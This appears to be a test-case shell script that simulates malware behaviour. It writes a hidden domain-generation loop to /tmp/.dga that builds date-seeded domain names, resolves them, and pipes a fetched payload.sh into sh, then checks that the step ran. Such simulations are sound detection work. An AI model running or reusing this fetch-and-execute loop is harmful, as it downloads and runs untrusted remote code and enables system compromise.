#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.dga <<'END'
i=0; while [ $i -lt 40 ]; do
    n=$(printf '%s-%s-%d' "$(date +%Y%m%d)" ninth $i | md5sum | cut -c1-14); t=$(echo xyz top club info | cut -d' ' -f$((i % 4 + 1))); i=$((i + 1))
    a=$(getent ahostsv4 "$n.$t" | awk 'NR == 1 { print $1 }'); [ -n "$a" ] || continue
    [ $i -gt 30 ] && curl -s -m 2 -H "Host: $n.$t" "http://$a/payload.sh" | sh && break
done
END
sh /tmp/.dga
test -e /tmp/reached
took_place
